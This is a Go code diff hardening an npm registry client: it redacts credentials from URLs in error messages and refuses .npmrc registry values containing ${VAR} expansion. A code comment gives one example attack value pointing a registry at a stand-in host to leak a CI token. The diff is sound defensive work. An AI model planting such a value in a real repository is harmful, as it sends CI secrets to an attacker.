@@ -41,9 +41,9 @@ type HTTPError struct {
 
 func (e *HTTPError) Error() string {
 	if e.Status == http.StatusNotFound {
-		return fmt.Sprintf("%s: not found (404): check the package name and version, and the registry setting", e.URL)
+		return fmt.Sprintf("%s: not found (404): check the package name and version, and the registry setting", Redact(e.URL))
 	}
-	return fmt.Sprintf("%s: HTTP %d from the npm registry", e.URL, e.Status)
+	return fmt.Sprintf("%s: HTTP %d from the npm registry", Redact(e.URL), e.Status)
 }
 
 // Client talks to one npm registry.
@@ -69,7 +69,7 @@ func clientError(status int) bool { return status >= 400 && status < 500 }
 func New(transport http.RoundTripper, policy retry.Policy, baseURL string) (*Client, error) {
 	u, err := url.Parse(baseURL)
 	if err != nil || (u.Scheme != "https" && u.Scheme != "http") || u.Host == "" {
-		return nil, fmt.Errorf("creating npm registry client: registry %q is not an http(s) URL: fix the registry setting in .npmrc or npm_config_registry", baseURL)
+		return nil, fmt.Errorf("creating npm registry client: registry %q is not an http(s) URL: fix the registry setting in .npmrc or npm_config_registry", Redact(baseURL))
 	}
 	if !strings.HasSuffix(u.Path, "/") {
 		u.Path += "/"
@@ -169,7 +169,7 @@ func (c *Client) get(ctx context.Context, hc *http.Client, rawURL string, limit 
 		return nil, err
 	}
 	if int64(len(data)) > limit {
-		return nil, fmt.Errorf("%s: larger than %d bytes", rawURL, limit)
+		return nil, fmt.Errorf("%s: larger than %d bytes", Redact(rawURL), limit)
 	}
 	return data, nil
 }
@@ -177,7 +177,11 @@ func (c *Client) get(ctx context.Context, hc *http.Client, rawURL string, limit 
 // URLFor returns the registry npm would use for the package name: the npm_config_registry environment variable
 // (or a scope's npm_config_@scope:registry), else registry= (or @scope:registry=) in .npmrc in dir, then in
 // $HOME, else DefaultURL. As in npm, the project's .npmrc wins over the user's.
-func URLFor(name, dir string, getenv func(string) string) string {
+//
+// Unlike npm, an .npmrc value is never expanded: npm replaces ${VAR} with the environment variable, so an .npmrc
+// from a checked-out repository could send a CI secret to a host of its choosing (registry=https://evil/${TOKEN}).
+// Such a value is refused with the fix (pass --registry).
+func URLFor(name, dir string, getenv func(string) string) (string, error) {
 	scope := ""
 	if strings.HasPrefix(name, "@") {
 		scope, _, _ = strings.Cut(name, "/")
@@ -189,23 +193,29 @@ func URLFor(name, dir string, getenv func(string) string) string {
 	for _, k := range keys {
 		for _, env := range []string{"npm_config_" + k, "NPM_CONFIG_" + strings.ToUpper(k)} {
 			if v := getenv(env); v != "" {
-				return v
+				return v, nil
 			}
 		}
 		for _, d := range []string{dir, getenv("HOME")} {
 			if d == "" {
 				continue
 			}
-			if v := npmrcValue(filepath.Join(d, ".npmrc"), k, getenv); v != "" {
-				return v
+			path := filepath.Join(d, ".npmrc")
+			v := npmrcValue(path, k)
+			if strings.Contains(v, "${") {
+				return "", fmt.Errorf("%s sets %s to a URL with an environment variable in it: waxseal does not expand variables into registry URLs, "+
+					"so a repository's .npmrc cannot send a secret to a server of its choosing; pass --registry URL", path, k)
+			}
+			if v != "" {
+				return v, nil
 			}
 		}
 	}
-	return DefaultURL
+	return DefaultURL, nil
 }
 
-// npmrcValue reads key=value from an .npmrc (ini syntax, ; and # comments, ${VAR} expansion).
-func npmrcValue(path, key string, getenv func(string) string) string {
+// npmrcValue reads key=value from an .npmrc (ini syntax, ; and # comments), unexpanded.
+func npmrcValue(path, key string) string {
 	f, err := os.Open(path)
 	if err != nil {
 		return ""
@@ -221,8 +231,17 @@ func npmrcValue(path, key string, getenv func(string) string) string {
 		if !ok || strings.TrimSpace(k) != key {
 			continue
 		}
-		v = strings.Trim(strings.TrimSpace(v), `"'`)
-		return os.Expand(v, getenv)
+		return strings.Trim(strings.TrimSpace(v), `"'`)
 	}
 	return ""
+}
+
+// Redact returns rawURL without user information or query, for messages: either may hold a credential.
+func Redact(rawURL string) string {
+	u, err := url.Parse(rawURL)
+	if err != nil {
+		return "(an unparseable URL)"
+	}
+	c := url.URL{Scheme: u.Scheme, Host: u.Host, Path: u.Path, RawPath: u.RawPath}
+	return c.String()
 }
